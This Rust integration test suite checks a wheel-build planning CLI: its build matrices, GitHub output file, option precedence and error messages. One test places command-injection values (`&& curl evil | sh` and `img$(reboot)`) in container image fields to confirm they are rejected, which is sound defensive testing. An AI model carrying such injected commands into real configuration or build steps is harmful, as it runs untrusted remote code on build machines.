//! `wheelwright plan` and `wheelwright config --show` through the binary: matrix snapshots for
//! the projects in `tests/fixtures/config/`, the matrix read back as GitHub's `fromJson` would
//! and every entry checked to be a build slice, `$GITHUB_OUTPUT`, and bad input (one-line
//! errors, exit codes). No containers, no network.

use std::path::{Path, PathBuf};

use assert_cmd::Command;
use wheelwright::config::matrix::Matrix;
use wheelwright::config::{ResolveInputs, Settings, candidate_identifiers};

fn fixtures() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/config")
}

/// The binary with no configuration from the environment this test runs in.
fn wheelwright() -> Command {
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_wheelwright"));
    for (name, _) in std::env::vars_os() {
        let name = name.to_string_lossy().into_owned();
        if ["CIBW_", "WHEELWRIGHT_", "INPUT_", "GITHUB_"]
            .iter()
            .any(|p| name.starts_with(p))
            || name == "RUST_LOG"
        {
            cmd.env_remove(name);
        }
    }
    cmd
}

struct Output {
    code: i32,
    stdout: String,
    stderr: String,
}

fn run(cmd: &mut Command) -> Output {
    let output = cmd.output().expect("runs");
    Output {
        code: output.status.code().expect("exit code"),
        stdout: String::from_utf8(output.stdout).expect("utf-8"),
        stderr: String::from_utf8(output.stderr).expect("utf-8"),
    }
}

fn plan(fixture: &str, args: &[&str]) -> serde_json::Value {
    let out = run(wheelwright()
        .arg("plan")
        .arg(fixtures().join(fixture))
        .args(args));
    assert_eq!(out.code, 0, "stderr: {}", out.stderr);
    serde_json::from_str(&out.stdout).expect("plan prints JSON")
}

#[test]
fn plan_numpy_by_arch() {
    // numpy's real table: requires-python >=3.11, i686 skipped, free-threading and PyPy enabled.
    insta::assert_json_snapshot!(plan("numpy", &[]));
}

#[test]
fn plan_testbed_by_identifier() {
    insta::assert_json_snapshot!(plan("testbed", &["--split", "identifier"]));
}

#[test]
fn plan_overrides_by_arch() {
    // One slice, three images: the cp39 override's manylinux2014, manylinux_2_28, musllinux.
    insta::assert_json_snapshot!(plan("overrides", &["--split", "arch"]));
}

#[test]
fn plan_braces_unsplit() {
    insta::assert_json_snapshot!(plan("braces", &["--split", "none"]));
}

#[test]
fn plan_minimal_defaults() {
    insta::assert_json_snapshot!(plan("minimal", &[]));
}

#[test]
fn print_identifiers_lists_the_selection() {
    let out = run(wheelwright()
        .args(["plan", "--print-identifiers"])
        .arg(fixtures().join("testbed")));
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert_eq!(
        out.stdout,
        "cp39-manylinux_x86_64\npp37-manylinux_x86_64\ncp39-manylinux_i686\npp37-manylinux_i686\n"
    );
}

#[test]
fn no_pyproject_means_defaults() {
    let out = run(wheelwright()
        .args(["plan", "--print-identifiers"])
        .arg(fixtures().join("no-pyproject")));
    assert_eq!(out.code, 0, "{}", out.stderr);
    // cp39–cp315 with cp314t and cp315t, manylinux and musllinux, x86_64 and i686.
    assert_eq!(out.stdout.lines().count(), 36);
    assert_eq!(out.stdout.lines().next(), Some("cp39-manylinux_x86_64"));
}

/// Parses the matrix the way a workflow consumes it: `fromJson` gives an object whose
/// `include` is a list of objects with string (or string list) values; then as wheelwright's
/// own type.
fn from_json(stdout: &str) -> Matrix {
    let value: serde_json::Value = serde_json::from_str(stdout).expect("valid JSON");
    let object = value.as_object().expect("an object");
    assert_eq!(object.keys().collect::<Vec<_>>(), ["include"]);
    let include = object["include"].as_array().expect("include is a list");
    assert!(!include.is_empty());
    for entry in include {
        let entry = entry.as_object().expect("entries are objects");
        for key in ["name", "arch", "image"] {
            let text = entry[key].as_str().expect("string fields");
            assert!(!text.is_empty(), "{key} is empty");
        }
        assert!(entry["identifiers"].as_array().is_some());
    }
    serde_json::from_value(value).expect("a wheelwright matrix")
}

#[test]
fn every_matrix_entry_is_a_build_slice() {
    for fixture in [
        "numpy",
        "testbed",
        "overrides",
        "braces",
        "minimal",
        "no-pyproject",
    ] {
        let dir = fixtures().join(fixture);
        let all = run(wheelwright()
            .args(["plan", "--print-identifiers"])
            .arg(&dir))
        .stdout;
        let all: Vec<&str> = all.lines().collect();
        for split in ["arch", "identifier", "none"] {
            let out = run(wheelwright().args(["plan", "--split", split]).arg(&dir));
            assert_eq!(out.code, 0, "{fixture} {split}: {}", out.stderr);
            let matrix = from_json(&out.stdout);
            let mut covered: Vec<String> = Vec::new();
            for entry in &matrix.include {
                // The slice a job gets: `only` when split by identifier, else `archs`, handed
                // back as the Action would (INPUT_*), with the same project configuration.
                let mut inputs = ResolveInputs::new(&dir);
                match &entry.only {
                    Some(only) => {
                        assert_eq!(split, "identifier");
                        inputs.env.insert("INPUT_ONLY".to_owned(), only.clone());
                    }
                    None => {
                        inputs
                            .env
                            .insert("INPUT_ARCHS".to_owned(), entry.arch.clone());
                    }
                }
                let settings = Settings::resolve(&inputs).expect("the slice resolves");
                let slice: Vec<String> = candidate_identifiers(&settings)
                    .iter()
                    .map(ToString::to_string)
                    .collect();
                assert_eq!(slice, entry.identifiers, "{fixture} {split} {}", entry.name);
                for id in candidate_identifiers(&settings) {
                    let image = settings.for_identifier(&id).image.value.reference;
                    assert!(
                        entry.image.split(' ').any(|i| i == image.as_str()),
                        "{fixture} {id}: {image} not in `{}`",
                        entry.image
                    );
                }
                // `build --dry-run` consumes the same slice through its flags and lists exactly
                // the entry's identifiers, in the same order: `plan` and `build` agree.
                let slice_flag = match &entry.only {
                    Some(only) => ["--only", only.as_str()],
                    None => ["--archs", entry.arch.as_str()],
                };
                let dry = run(wheelwright()
                    .args(["build", "--dry-run"])
                    .args(slice_flag)
                    .arg(&dir));
                assert_eq!(
                    dry.code, 0,
                    "{fixture} {split} {}: {}",
                    entry.name, dry.stderr
                );
                let listed: Vec<&str> = dry.stdout.lines().collect();
                assert_eq!(
                    listed, entry.identifiers,
                    "{fixture} {split} {}: build --dry-run",
                    entry.name
                );
                covered.extend(entry.identifiers.iter().cloned());
            }
            // The slices partition the selection, in build order for the unsplit/identifier cuts.
            let mut sorted_covered = covered.clone();
            sorted_covered.sort();
            let mut sorted_all: Vec<String> = all.iter().map(|s| (*s).to_owned()).collect();
            sorted_all.sort();
            assert_eq!(sorted_covered, sorted_all, "{fixture} {split}");
            if split != "arch" {
                assert_eq!(covered, all, "{fixture} {split}");
            }
        }
    }
}

#[test]
fn format_github_writes_the_matrix_output() {
    let dir = tempfile::tempdir().expect("tempdir");
    let output_file = dir.path().join("github_output");
    fs_err::write(&output_file, "earlier=1\n").expect("write");
    let out = run(wheelwright()
        .args(["plan", "--format", "github"])
        .arg(fixtures().join("testbed"))
        .env("GITHUB_OUTPUT", &output_file));
    assert_eq!(out.code, 0, "{}", out.stderr);
    let written = fs_err::read_to_string(&output_file).expect("read");
    let rest = written
        .strip_prefix("earlier=1\nmatrix<<")
        .expect("appended heredoc");
    let (delimiter, rest) = rest.split_once('\n').expect("delimiter line");
    assert!(
        delimiter.starts_with("ghadelimiter_") && delimiter.len() > 20,
        "{delimiter}"
    );
    let value = rest
        .strip_suffix(&format!("\n{delimiter}\n"))
        .expect("closing delimiter");
    assert_eq!(format!("{value}\n"), out.stdout);
    from_json(value);
}

#[test]
fn format_github_without_github_output_is_an_error() {
    let out = run(wheelwright()
        .args(["plan", "--format", "github"])
        .arg(fixtures().join("testbed")));
    assert_eq!(out.code, 1);
    assert_eq!(out.stdout, "");
    assert_eq!(
        out.stderr,
        "error: `--format github` writes `matrix` to `$GITHUB_OUTPUT`, which is not set (run it in a GitHub Actions step or use `--format json`)\n"
    );
}

fn plan_ids() -> Command {
    let mut cmd = wheelwright();
    cmd.args(["plan", "--print-identifiers"]);
    cmd
}

#[test]
fn environment_inputs_and_flags_reach_the_plan() {
    let testbed = fixtures().join("testbed");
    let ids = |cmd: &mut Command| {
        let out = run(cmd.arg(&testbed));
        assert_eq!(out.code, 0, "{}", out.stderr);
        out.stdout.lines().map(str::to_owned).collect::<Vec<_>>()
    };
    assert_eq!(
        ids(plan_ids().env("CIBW_ARCHS", "i686")),
        ["cp39-manylinux_i686", "pp37-manylinux_i686"]
    );
    // CIBW_SKIP replaces the file's `skip`, so the musllinux build is back.
    assert_eq!(
        ids(plan_ids().env("CIBW_ARCHS", "i686").env("CIBW_SKIP", "pp*")),
        ["cp39-manylinux_i686", "cp39-musllinux_i686"]
    );
    // INPUT_* beats CIBW_*, the flag beats both.
    assert_eq!(
        ids(plan_ids()
            .env("CIBW_ARCHS", "i686")
            .env("INPUT_ARCHS", "x86_64")
            .env("CIBW_BUILD", "cp39-*")),
        ["cp39-manylinux_x86_64"]
    );
    assert_eq!(
        ids(wheelwright()
            .args(["plan", "--print-identifiers", "--archs", "i686"])
            .env("INPUT_ARCHS", "x86_64")),
        ["cp39-manylinux_i686", "pp37-manylinux_i686"]
    );
}

fn project(pyproject: &str) -> tempfile::TempDir {
    let dir = tempfile::tempdir().expect("tempdir");
    fs_err::write(dir.path().join("pyproject.toml"), pyproject).expect("write");
    dir
}

/// Runs `plan` on a bad project: exit 1, nothing on stdout, exactly one `error:` line.
fn plan_error(dir: &Path, extra: &[&str], env: &[(&str, &str)]) -> String {
    let mut cmd = wheelwright();
    cmd.arg("plan").arg(dir).args(extra);
    for (k, v) in env {
        cmd.env(k, v);
    }
    let out = run(&mut cmd);
    assert_eq!(out.code, 1, "stdout: {} stderr: {}", out.stdout, out.stderr);
    assert_eq!(out.stdout, "");
    assert_eq!(out.stderr.lines().count(), 1, "{}", out.stderr);
    out.stderr
        .trim_end()
        .strip_prefix("error: ")
        .expect("error: prefix")
        .replace(&dir.display().to_string(), "[PROJECT]")
}

#[test]
fn malformed_toml_names_line_and_column() {
    let dir = project("[project]\nname = \"x\"\n\n[tool.cibuildwheel]\nskip = [\"pp*\"\n");
    let err = plan_error(dir.path(), &[], &[]);
    assert!(err.starts_with("`[PROJECT]/pyproject.toml`:5:"), "{err}");
    assert!(err.contains(": invalid TOML: "), "{err}");
}

#[test]
fn unknown_key_suggests_the_nearest() {
    let dir = project("[tool.cibuildwheel]\nbefore-bulid = \"make\"\n");
    assert_eq!(
        plan_error(dir.path(), &[], &[]),
        "`[PROJECT]/pyproject.toml`:2:1: unknown key `before-bulid` in [tool.cibuildwheel] (did you mean `before-build`?)"
    );
    let dir = project("[tool.wheelwright]\nthreads = 4\n");
    assert_eq!(
        plan_error(dir.path(), &[], &[]),
        "`[PROJECT]/pyproject.toml`:2:1: unknown key `threads` in [tool.wheelwright]"
    );
}

#[test]
fn wrong_type_names_the_expected_type() {
    let dir = project("[tool.cibuildwheel]\ntest-requires = 42\n");
    assert_eq!(
        plan_error(dir.path(), &[], &[]),
        "`[PROJECT]/pyproject.toml`:2:17: `test-requires` in [tool.cibuildwheel] must be a string or an array of strings, not an integer"
    );
}

#[test]
fn unknown_arch_is_an_error_wherever_it_is_set() {
    let dir = project("[tool.cibuildwheel]\narchs = \"amd64\"\n");
    let err = plan_error(dir.path(), &[], &[]);
    assert!(
        err.starts_with("`[PROJECT]/pyproject.toml`:2:9: invalid `archs`: unknown architecture `amd64` (expected one of auto, auto64"),
        "{err}"
    );
    let dir = project("");
    assert!(
        plan_error(dir.path(), &["--archs", "x86"], &[])
            .starts_with("`--archs`: invalid `archs`: unknown architecture `x86`")
    );
    assert!(
        plan_error(dir.path(), &[], &[("CIBW_ARCHS", "i386")]).starts_with(
            "environment variable `CIBW_ARCHS`: invalid `archs`: unknown architecture `i386`"
        )
    );
}

#[test]
fn empty_selection_lists_what_exists() {
    let dir = project(
        "[project]\nrequires-python = \">=3.12\"\n[tool.cibuildwheel]\nbuild = \"cp311-*\"\narchs = \"x86_64\"\nskip = \"*musllinux*\"\n",
    );
    assert_eq!(
        plan_error(dir.path(), &[], &[]),
        "nothing to build: build `cp311-*` (`[PROJECT]/pyproject.toml`:4) and skip `*musllinux*` (`[PROJECT]/pyproject.toml`:6) select none of the 12 identifiers available for x86_64 with requires-python `>=3.12` (`[PROJECT]/pyproject.toml`:2): cp312-manylinux_x86_64 cp313-manylinux_x86_64 cp314-manylinux_x86_64 cp314t-manylinux_x86_64 cp315-manylinux_x86_64 cp315t-manylinux_x86_64 cp312-musllinux_x86_64 cp313-musllinux_x86_64 cp314-musllinux_x86_64 cp314t-musllinux_x86_64 cp315-musllinux_x86_64 cp315t-musllinux_x86_64"
    );
}

#[test]
fn image_with_shell_characters_is_rejected() {
    let dir = project(
        "[tool.cibuildwheel.linux]\nmanylinux-i686-image = \"quay.io/pypa/manylinux2014_i686 && curl evil | sh\"\n",
    );
    assert_eq!(
        plan_error(dir.path(), &[], &[]),
        "`[PROJECT]/pyproject.toml`:2:24: invalid `manylinux-i686-image`: image reference `quay.io/pypa/manylinux2014_i686 && curl evil | sh` contains a space: only letters, digits and `._-/:@` are allowed"
    );
    let dir = project("");
    assert_eq!(
        plan_error(
            dir.path(),
            &[],
            &[("CIBW_MANYLINUX_X86_64_IMAGE", "img$(reboot)")]
        ),
        "environment variable `CIBW_MANYLINUX_X86_64_IMAGE`: invalid `manylinux-x86_64-image`: image reference `img$(reboot)` contains `$`: only letters, digits and `._-/:@` are allowed"
    );
}

#[test]
fn missing_project_directory() {
    let dir = tempfile::tempdir().expect("tempdir");
    let missing = dir.path().join("nope");
    assert_eq!(
        plan_error(&missing, &[], &[]),
        "project directory `[PROJECT]` does not exist"
    );
}

#[test]
fn usage_errors_exit_2() {
    let out = run(wheelwright().args(["plan", "--split", "diagonal"]));
    assert_eq!(out.code, 2);
    // `config` alone shows the configuration (tests/cli/commandline.rs); a flag it does not
    // know is a usage error.
    let out = run(wheelwright().args(["config", "--shwo"]));
    assert_eq!(out.code, 2);
    assert!(out.stderr.contains("--show"), "{}", out.stderr);
}

#[test]
fn unsupported_cibuildwheel_options_warn_and_still_plan() {
    let dir =
        project("[tool.cibuildwheel]\nbuild = \"cp312-manylinux_x86_64\"\nbuild-verbosity = 2\n");
    let out = run(wheelwright()
        .args(["plan", "--print-identifiers"])
        .arg(dir.path()));
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert_eq!(out.stdout, "cp312-manylinux_x86_64\n");
    assert_eq!(
        out.stderr
            .replace(&dir.path().display().to_string(), "[PROJECT]"),
        "warning: `[PROJECT]/pyproject.toml`:3: [tool.cibuildwheel] `build-verbosity` is not supported by wheelwright and is ignored\n"
    );
}

#[test]
fn config_show_text() {
    let out = run(wheelwright()
        .current_dir(fixtures())
        .args(["config", "--show", "overrides"]));
    assert_eq!(out.code, 0, "{}", out.stderr);
    insta::assert_snapshot!(out.stdout);
}

#[test]
fn config_show_json_names_every_source() {
    let out = run(wheelwright()
        .current_dir(fixtures())
        .args(["config", "--show", "--json", "testbed"])
        .env("CIBW_BEFORE_BUILD", "pip install cython")
        .env("INPUT_OUTPUT-DIR", "dist"));
    assert_eq!(out.code, 0, "{}", out.stderr);
    let value: serde_json::Value = serde_json::from_str(&out.stdout).expect("JSON");
    let option = |name: &str| {
        value["options"]
            .as_array()
            .expect("options")
            .iter()
            .find(|o| o["name"] == name)
            .unwrap_or_else(|| panic!("{name}"))
            .clone()
    };
    insta::assert_json_snapshot!([
        option("build"),
        option("archs"),
        option("before-build"),
        option("output-dir"),
        option("pull"),
        option("manylinux-i686-image"),
        option("test-i686-image"),
        value["requires_python"].clone(),
        value["identifiers"][3].clone(),
    ]);
}
